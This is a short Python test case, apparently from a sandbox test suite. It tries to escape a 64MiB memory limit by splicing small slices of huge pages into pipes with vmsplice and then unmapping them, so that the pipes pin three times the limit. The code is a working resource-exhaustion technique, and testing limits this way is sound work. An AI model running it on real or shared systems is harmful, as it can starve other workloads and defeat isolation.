# /// attack
# guarantee = "memory"
# summary = "Maps large pages, hands a small part of each to a pipe and unmaps it: the pipe keeps the whole page."
# reference = "vmsplice(2), madvise(2) MADV_HUGEPAGE"
# success = "three times the limit is in pipes and in no process"
# needs = ["large-pages"]
# policy = { limits = { memory = "64MiB", open_files = 1024 } }
# refusal = { RLIMIT_DATA = "errno", default = "limit memory" }
# ///

import ctypes
import os

from kit import attempt, check, libc, succeeded, syscall

NUMBER = {"x86_64": 278, "aarch64": 75}[os.uname().machine]
LARGE, PAGE, SLOTS, ADVICE = 2 << 20, 4096, 16, 14
WANTED = 96


class Piece(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


c = libc()
c.mmap.restype = ctypes.c_void_p
kept = []
for number in range(WANTED):
    if number % SLOTS == 0:
        kept.append(os.pipe())
    begin = c.mmap(None, ctypes.c_size_t(2 * LARGE), 3, 0x22, -1, 0)
    whole = (begin + LARGE - 1) // LARGE * LARGE
    c.madvise(ctypes.c_void_p(whole), ctypes.c_size_t(LARGE), ADVICE)
    ctypes.memset(whole, 1, LARGE)
    piece = Piece(whole, PAGE)
    attempt(lambda piece=piece: check(syscall(NUMBER, kept[-1][1], ctypes.byref(piece), 1, 2)), "EPERM")
    c.munmap(ctypes.c_void_p(begin), ctypes.c_size_t(2 * LARGE))
succeeded(WANTED * LARGE)
